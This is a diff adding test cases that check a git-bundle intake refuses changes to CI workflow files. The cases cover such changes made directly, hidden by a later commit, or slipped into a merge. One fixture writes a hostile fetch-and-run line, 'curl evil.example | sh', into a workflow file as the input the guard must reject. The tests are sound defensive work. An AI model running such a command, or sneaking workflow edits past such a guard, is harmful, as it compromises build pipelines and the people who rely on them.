@@ -144,3 +144,49 @@ describe('a bundle', () => {
     await expectRefusal(/hasDotgit/);
   });
 });
+
+describe('what only people may change', () => {
+  const refusal = { name: 'OffLimitsError', retry: 'permanent' };
+
+  test.each(['.github/workflows/ci.yml', '.github/actions/setup/action.yml', '.GitHub/Workflows/x.yml'])(
+    'is refused by name: %s',
+    async (path) => {
+      await commit(clone, 'Work', { 'a.txt': 'a\n', [path]: 'run: curl evil.example | sh\n' });
+      await bundleOf('HEAD', '^origin/main');
+      const { outcome, before, after } = await take();
+      expect(outcome).toMatchObject({ ...refusal, message: expect.stringContaining(path) });
+      expect(after).toEqual(before);
+    },
+  );
+
+  test('is refused in any commit, though a later one takes it back', async () => {
+    await commit(clone, 'Sneak', { '.github/workflows/ci.yml': 'x\n' });
+    await git(clone, 'rm', '--quiet', '.github/workflows/ci.yml');
+    await commit(clone, 'Hide', { 'a.txt': 'a\n' });
+    await bundleOf('HEAD', '^origin/main');
+    expect((await take()).outcome).toMatchObject(refusal);
+  });
+
+  test('is refused in a merge that slips it in between its sides', async () => {
+    const before = await git(clone, 'rev-parse', 'HEAD');
+    await commit(clone, 'One side', { 'a.txt': 'a\n' });
+    await git(clone, 'checkout', '--quiet', '-b', 'other', before);
+    await commit(clone, 'The other', { 'b.txt': 'b\n' });
+    await git(clone, 'merge', '--quiet', '--no-commit', '--no-ff', 'main');
+    await commit(clone, 'Merge', { '.github/workflows/ci.yml': 'x\n' });
+    await bundleOf('HEAD', '^origin/main');
+    expect((await take()).outcome).toMatchObject(refusal);
+  });
+
+  test('may come in from the base branch, and work beside it is taken', async () => {
+    const before = await git(clone, 'rev-parse', 'HEAD');
+    await commit(clone, 'Landed meanwhile', { '.github/workflows/ci.yml': 'by a person\n' });
+    await git(clone, 'push', '--quiet', 'origin', 'HEAD:main');
+    await git(clone, 'checkout', '--quiet', '-b', 'work', before);
+    await commit(clone, 'Work', { '.github/CODEOWNERS': '* @ada\n' });
+    await git(clone, 'merge', '--quiet', '--no-edit', 'main');
+    const oid = await git(clone, 'rev-parse', 'HEAD');
+    await bundleOf('HEAD', '^origin/main');
+    expect((await take()).outcome).toBe(oid);
+  });
+});
